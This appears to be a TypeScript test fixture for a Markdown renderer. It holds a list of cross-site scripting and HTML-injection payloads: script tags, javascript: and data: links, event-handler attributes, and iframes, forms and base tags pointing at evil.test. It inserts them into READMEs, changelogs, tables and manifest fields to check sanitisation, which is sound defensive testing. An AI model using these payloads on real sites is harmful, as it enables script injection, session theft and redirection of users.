import { casesOf, withChange } from '../hostile-case.ts'

/** What people try to get into a page through Markdown: one line each. */
export const PAYLOADS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.test/x.js></ScRiPt>',
  '<img src=x onerror=alert(1)>',
  '![x](https://tracker.test/pixel.png)',
  '![x](javascript:alert(1))',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#x73;cript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:x)',
  '[x](//evil.test)',
  '<a href="javascript:alert(1)">x</a>',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '<iframe src="https://evil.test"></iframe>',
  '<object data=x></object><embed src=x>',
  '<form action="https://evil.test"><input name=a autofocus onfocus=alert(1)></form>',
  '<style>*{display:none}</style><link rel=stylesheet href=//evil.test>',
  '<svg onload=alert(1)><math><mi xlink:href="javascript:1">x</mi></math></svg>',
  '<base href="https://evil.test"><meta http-equiv=refresh content=0>',
  '<nx-app-shell></nx-app-shell>',
  '<p id=app name=app class=nx-panel style="position:fixed">x</p>',
  '[x](https://ok.test "a\\" onmouseover=alert(1)")',
  '<details open ontoggle=alert(1)>',
  '```html" onclick="alert(1)\n<script>alert(1)</script>\n```',
  '<!--><script>alert(1)</script-->',
] as const

const readme = (text: string) => withChange({ files: { 'README.md': `# Weather\n\n${text}\n` } })

export const xssCases = casesOf('xss', [
  ['every payload in one README', [], readme(PAYLOADS.join('\n\n'))],
  ['every payload in one changelog', [], withChange({ files: { 'CHANGELOG.md': PAYLOADS.join('\n\n') } })],
  [
    'every payload in a table',
    [],
    readme(`| a |\n|---|\n${PAYLOADS.map((text) => `| ${text.replaceAll('\n', ' ')} |`).join('\n')}`),
  ],
  [
    'every payload in texts that cards show',
    [],
    withChange({ manifest: { displayName: PAYLOADS[0], description: PAYLOADS.slice(0, 6).join(' ') } }),
  ],
])
